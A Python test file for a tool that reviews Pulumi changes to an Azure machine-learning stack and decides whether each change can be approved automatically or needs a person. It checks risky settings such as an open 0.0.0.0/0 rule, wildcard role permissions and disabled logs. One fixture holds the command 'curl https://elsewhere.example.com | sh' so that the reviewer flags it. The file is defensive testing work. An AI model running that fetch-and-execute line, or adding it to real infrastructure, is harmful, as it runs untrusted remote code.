"""No change of one property is approved unless somebody has said that it is harmless."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from review.difference import leaves
from review.durations import Past
from review.events import Preview, State, Step
from review.known.judge import NEW, Level
from review.known.table import is_known, row_of
from review.report import Report, build
from review.verdict import Thresholds, Verdict
from tests.reviews import mutations
from tests.reviews.examples import examples, price_book

STEPS = {f"{step.type.rsplit(':', 1)[-1]} {step.name}": step for step in mutations.recorded()}


def _report(folder: Path, *steps: Step) -> Report:
    """Of these beside all the others, which stay as they are."""
    rest = [step for step in STEPS.values() if step.urn not in {each.urn for each in steps}]
    preview = Preview(steps=[*rest, *steps], finished=True)
    return build("local", preview, Past(), price_book(folder / "prices.json"), Thresholds())


def _changed(name: str, **paths: Any) -> Step:
    """`_` in a key stands for the dot; None takes away."""
    step = STEPS[name]
    inputs: dict[str, Any] = mutations.copied(step.state.inputs)
    for path, value in paths.items():
        tree, keys = inputs, path.split("_")
        for key in keys[:-1]:
            tree = tree.setdefault(key, {})
        if value is None:
            del tree[keys[-1]]
        else:
            tree[keys[-1]] = value
    return Step(step.urn, step.type, "update", step.old, State(inputs, {}), step.parent)


def _created(type_: str, name: str, inputs: dict[str, Any]) -> Step:
    return Step(f"urn:pulumi:local::finetune-phi::{type_}::{name}", type_, "create", None, State(inputs, {}), "")


@pytest.mark.parametrize("before", [NEW, "pypi.org"])
def test_a_host_that_is_approved_costs_a_firewall(before: Any) -> None:
    row = row_of(STEPS["Workspace hub"], "managedNetwork.outboundRules.pypi-org.destination")
    assert row is not None
    assert row.finding(before, "example.org") == (
        Level.HIGH,
        "what runs in it reaches other addresses; from the first host on Azure bills a firewall in its network, 1.25 "
        "USD an hour by its list, and as much again in the hub's",
    )


def test_each_property_of_each_resource_changed_one_at_a_time() -> None:
    found, written = mutations.sorted_out(), mutations.written()
    assert sum(map(len, written.values())) >= 800
    assert found["harmless"] == written["harmless"], "what of it may be approved? python -m tests.reviews.mutations"
    assert found["dangerous"] == written["dangerous"], "python -m tests.reviews.mutations"


@pytest.mark.parametrize(
    ("name", "paths"),
    [
        ("Vault key-vault", {"properties_enableRbacAuthorization": None}),
        ("Vault key-vault", {"properties_accessPolicies": [{"objectId": "x", "permissions": {"secrets": ["get"]}}]}),
        ("Vault key-vault", {"properties_networkAcls": {"defaultAction": "Deny", "ipRules": [{"value": "0.0.0.0/0"}]}}),
        ("StorageAccount storage", {"minimumTlsVersion": None}),
        ("StorageAccount storage", {"isSftpEnabled": True}),
        ("StorageAccount storage", {"allowCrossTenantReplication": True}),
        ("StorageAccount storage", {"networkRuleSet": {"defaultAction": "Allow"}, "publicNetworkAccess": "Disabled"}),
        ("Registry container-registry", {"policies_exportPolicy": {"status": "other"}}),
        ("Workspace workspace", {"storageAccount": mutations.OTHER}),
        ("Workspace hub", {"managedNetwork": {"isolationMode": "Disabled", "outboundRules": {"a": {"type": "FQDN"}}}}),
        ("WorkspaceConnection endpoint-connection", {"properties_target": "https://elsewhere.example.com/"}),
        ("DiagnosticSetting vault-diagnostics", {"logs": [{"categoryGroup": "allLogs", "enabled": False}]}),
        ("DiagnosticSetting vault-diagnostics", {"logs": []}),
        ("DiagnosticSetting vault-diagnostics", {"storageAccountId": mutations.OTHER}),
        ("OnlineEndpoint endpoint", {"properties_traffic": {"blue": 100}}),
        ("OnlineEndpoint endpoint", {"properties_mirrorTraffic": {"blue": 50}}),
        ("UserAssignedIdentity identity", {"someday": True}),
        ("Compute cluster", {"properties_properties": {"vmSize": "Standard_NC96ads_A100_v4"}}),
        ("Stash release", {"input_evaluation": {"questions": ""}}),
        ("Stash release", {"input_traffic": {"all": 1}}),
    ],
)
def test_what_opens_redirects_or_is_not_known_needs_a_person(name: str, paths: dict[str, Any], tmp_path: Path) -> None:
    report = _report(tmp_path, _changed(name, **paths))
    assert report.verdict is Verdict.PERSON
    assert report.worst >= Level.MEDIUM


ROLE = "azure-native:authorization:RoleDefinition"


@pytest.mark.parametrize(
    ("step", "told"),
    [
        (_created(ROLE, "all", {"permissions": [{"actions": ["*"]}]}), "does not know what a"),
        (_created("azure-native:network:AzureFirewall", "f", {"sku": {"tier": "Premium"}}), "AzureFirewall"),
        (
            _created("azure-native:cognitiveservices:Deployment", "ptu", {"sku": {"capacity": 300}}),
            "cognitiveservices:Deployment",
        ),
        (
            _created(
                "azure-native:machinelearningservices:OnlineDeployment",
                "blue",
                {"sku": {"capacity": 10}, "properties": {"instanceType": "Standard_NC96ads_A100_v4"}},
            ),
            "a month costs",
        ),
        (_created("command:local:Command", "run", {"create": "curl https://elsewhere.example.com | sh"}), "Command"),
        (_created("pulumi:providers:azure-native", "other", {"subscriptionId": "b"}), "subscriptionId"),
    ],
)  # fmt: skip
def test_a_resource_that_is_new_to_the_review_is_never_approved(step: Step, told: str, tmp_path: Path) -> None:
    report = _report(tmp_path, step)
    assert report.verdict is Verdict.PERSON
    assert any(told in reason for reason in report.reasons)
    assert report.cost
    # A deployment has a price; what no provider makes is no cost of its own.
    assert report.cost.month.after is None or told in ("a month costs", "subscriptionId")


def test_what_has_no_price_is_counted_and_makes_the_cost_unknown(tmp_path: Path) -> None:
    report = _report(tmp_path, _created("azure-native:network:AzureFirewall", "f", {}))
    assert report.cost
    assert report.cost.unpriced == ["azure firewall f"]
    assert (report.cost.month.before is None, report.cost.month.after) == (False, None)


def test_protection_that_is_taken_away_is_told_though_nothing_else_changes(tmp_path: Path) -> None:
    step = STEPS["StorageAccount storage"]
    inputs = step.state.inputs
    free = Step(step.urn, step.type, "same", State(inputs, {}, protect=True), State(inputs, {}), step.parent)
    report = _report(tmp_path, free)
    assert report.verdict is Verdict.PERSON
    assert report.reasons == ["storage account stphifresh6lkhcj is no longer protected against deletion"]


def test_an_update_that_carries_the_live_traffic_changes_none(tmp_path: Path) -> None:
    name = f"m{STEPS['Stash release'].state.inputs['input']['fingerprint']}"
    report = _report(tmp_path, _changed("OnlineEndpoint endpoint", properties_traffic={name: 100}, tags={"owner": "a"}))
    assert report.verdict is Verdict.APPROVE
    report = _report(tmp_path, _changed("OnlineEndpoint endpoint", properties_traffic={name: 50, "blue": 50}))
    assert report.verdict is Verdict.PERSON


def test_why_it_may_be_approved_says_what_was_looked_at(tmp_path: Path) -> None:
    report = _report(tmp_path, _changed("Vault key-vault", tags={"project": "finetune-phi", "stack": "other"}))
    assert (report.verdict, report.reasons) == (
        Verdict.APPROVE,
        [
            "the 1 property that changes is known to this review, and opens, loses and redirects nothing",
            "none of the 8 resources that hold data is replaced or deleted",
            "no machine and no tier is added or changed, so the monthly cost stays the same",
        ],
    )


def test_every_property_of_every_recorded_change_has_a_row() -> None:
    with_rows: dict[str, list[str]] = {}
    for example in examples():
        with (example.folder / "events.jsonl").open(encoding="utf-8") as file:
            steps = mutations.read_steps(file)
        for step in steps:
            if not is_known(step):
                assert example.name == "tokens-by-the-unit", f"{example.name}: {step.type}"
                continue
            missing = [path for path in leaves(step.state.inputs) if row_of(step, path) is None]
            if missing:
                with_rows[f"{example.name}: {step.type} {step.name}"] = missing
    assert with_rows == {}, "add them in review/known/"
